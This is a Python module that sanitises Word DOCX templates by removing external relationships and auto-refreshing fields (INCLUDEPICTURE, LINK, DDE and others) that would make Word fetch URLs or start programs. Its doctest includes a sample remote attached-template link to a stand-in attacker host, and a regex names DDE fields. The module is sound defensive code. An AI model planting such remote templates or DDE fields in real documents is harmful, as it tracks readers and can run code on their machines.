"""External relationships stripped from templates: a draft never makes Word fetch a URL.

A DOCX part's relationships (``word/_rels/settings.xml.rels``…) may point outside
the package (``TargetMode="External"``): a remote attached template, a linked
image, an OLE link, a frame or subdocument.  Word fetches them when the draft is
opened, telling whoever runs the server who opened it and where.  Every such
relationship is removed from a template before it is compiled, with what refers
to it in the owning part (an ``attachedTemplate`` element, an ``r:link`` or
``r:id`` attribute).  A plain hyperlink stays: Word follows it only when clicked,
unless something other than a hyperlink element refers to it (then it is fetched,
and removed like the others).

Fields fetch too, without any relationship: ``INCLUDEPICTURE "http://…"``,
``INCLUDETEXT``, ``LINK``, ``IMPORT`` and ``DDE``/``DDEAUTO`` (which can also start
a program) are refreshed by Word when the document is opened or printed.  In every
Word part such a field loses its instruction and keeps its last shown result as
plain text (a complex field's ``fldChar``/``instrText``, or a ``fldSimple`` wrapper);
a ``HYPERLINK`` field, followed only when clicked, stays.

Examples:
    >>> rels = (b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    ...         b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats'
    ...         b'.org/officeDocument/2006/relationships/attachedTemplate" '
    ...         b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')
    >>> cleaned, removed = strip_external({"word/_rels/settings.xml.rels": rels,
    ...                                    "word/settings.xml": b"<settings/>"})
    >>> removed
    ('word/settings.xml: attachedTemplate to http://evil.example/t.dotm',)
    >>> b"evil" in cleaned["word/_rels/settings.xml.rels"]
    False
"""

from __future__ import annotations

import posixpath
import re
from collections.abc import Mapping
from typing import Any

__all__ = ["strip_external"]

_PKG_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
_R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_HYPERLINK_TYPE = f"{_R_NS}/hyperlink"
# Elements that only follow a hyperlink when clicked.
_CLICKED = {
    f"{{{_W_NS}}}hyperlink",
    "{http://schemas.openxmlformats.org/drawingml/2006/main}hlinkClick",
    "{http://schemas.openxmlformats.org/drawingml/2006/main}hlinkHover",
}
# Elements that are nothing without their relationship: removed with it.
_DROPPED = {f"{{{_W_NS}}}attachedTemplate"}
# Field instructions Word refreshes by itself, fetching a file or a URL (or running DDE).
_FETCHING_FIELD = re.compile(
    r"^\s*(INCLUDEPICTURE|INCLUDETEXT|LINK|IMPORT|DDEAUTO|DDE)\b", re.IGNORECASE
)
_FIELD_PART = re.compile(r"^word/[^/]+\.xml$")
_SHOWN_CHARACTERS = 120  # of an instruction, in the report


def _owner(rels_name: str) -> str:
    folder, file = posixpath.split(rels_name)
    return posixpath.join(posixpath.dirname(folder), file.removesuffix(".rels"))


def _parse(data: bytes, name: str) -> Any:
    from litigate.parse.docx import _parse_xml

    return _parse_xml(data, name, None)


def _serialise(root: Any) -> bytes:
    from lxml import etree  # type: ignore[import-untyped,unused-ignore]

    return bytes(etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True))


def _references(owner: Any, ids: set[str]) -> dict[str, list[tuple[Any, str]]]:
    found: dict[str, list[tuple[Any, str]]] = {}
    for element in owner.iter():
        for attribute, value in element.attrib.items():
            if attribute.startswith(f"{{{_R_NS}}}") and value in ids:
                found.setdefault(value, []).append((element, attribute))
    return found


def strip_external(parts: Mapping[str, bytes]) -> tuple[dict[str, bytes], tuple[str, ...]]:
    """The parts that change once external relationships are removed, and what was removed.

    Args:
        parts: Every part of the package, by name.

    Returns:
        The new bytes of the relationship parts and owning parts that changed, and
        one line per relationship removed (``part: type to target``).

    Raises:
        DocumentError: A relationship part or its owner is not well-formed XML.
    """
    changed: dict[str, bytes] = {}
    removed: list[str] = []
    for name in sorted(parts):
        if not name.endswith(".rels") or b"External" not in parts[name]:
            continue
        rels = _parse(parts[name], name)
        external = {
            rel.get("Id", ""): rel
            for rel in rels.iter(f"{{{_PKG_NS}}}Relationship")
            if (rel.get("TargetMode") or "").strip().lower() == "external"
        }
        if not external:
            continue
        owner_name = _owner(name)
        owner = _parse(parts[owner_name], owner_name) if owner_name in parts else None
        refs = _references(owner, set(external)) if owner is not None else {}
        dropped = []
        for rel_id, rel in external.items():
            uses = refs.get(rel_id, [])
            if rel.get("Type") == _HYPERLINK_TYPE and all(e.tag in _CLICKED for e, _ in uses):
                continue
            dropped.append(rel_id)
            kind = (rel.get("Type") or "").rsplit("/", 1)[-1]
            removed.append(f"{owner_name}: {kind} to {rel.get('Target', '')}")
            rels.remove(rel)
            for element, attribute in uses:
                parent = element.getparent()
                if element.tag in _DROPPED and parent is not None:
                    parent.remove(element)
                else:
                    del element.attrib[attribute]
        if dropped:
            changed[name] = _serialise(rels)
            if owner is not None and refs:
                changed[owner_name] = _serialise(owner)
    for name in sorted(parts):
        data = changed.get(name, parts[name])
        if not _FIELD_PART.match(name) or (b"instrText" not in data and b"fldSimple" not in data):
            continue
        root = _parse(data, name)
        found = _strip_fields(root)
        if found:
            removed.extend(f"{name}: field {instruction}" for instruction in found)
            changed[name] = _serialise(root)
    return changed, tuple(removed)


def _strip_fields(root: Any) -> list[str]:
    """Neutralise the fetching fields of one part in place; their instructions, shortened."""
    w = f"{{{_W_NS}}}"
    found: list[str] = []
    for simple in list(root.iter(f"{w}fldSimple")):
        instruction = simple.get(f"{w}instr") or ""
        if _FETCHING_FIELD.match(instruction):
            found.append(_shown(instruction))
            parent = simple.getparent()
            if parent is not None:
                at = parent.index(simple)
                for offset, child in enumerate(list(simple)):
                    parent.insert(at + offset, child)
                parent.remove(simple)
    # Complex fields: begin, instruction runs, separate, result runs, end (fields nest).
    stack: list[dict[str, Any]] = []
    doomed: list[Any] = []
    for element in list(root.iter(f"{w}fldChar", f"{w}instrText")):
        if element.tag == f"{w}instrText":
            if stack and not stack[-1]["separated"]:
                stack[-1]["text"].append(element.text or "")
                stack[-1]["controls"].append(element)
            continue
        kind = element.get(f"{w}fldCharType")
        if kind == "begin":
            stack.append({"text": [], "controls": [element], "separated": False})
        elif kind == "separate" and stack:
            stack[-1]["separated"] = True
            stack[-1]["controls"].append(element)
        elif kind == "end" and stack:
            field = stack.pop()
            field["controls"].append(element)
            instruction = "".join(field["text"])
            if _FETCHING_FIELD.match(instruction):
                found.append(_shown(instruction))
                doomed.extend(field["controls"])
    for element in doomed:
        parent = element.getparent()
        if parent is not None:
            parent.remove(element)
    return found


def _shown(instruction: str) -> str:
    text = " ".join(instruction.split())
    if len(text) <= _SHOWN_CHARACTERS:
        return text
    return f"{text[: _SHOWN_CHARACTERS - 1]}…"
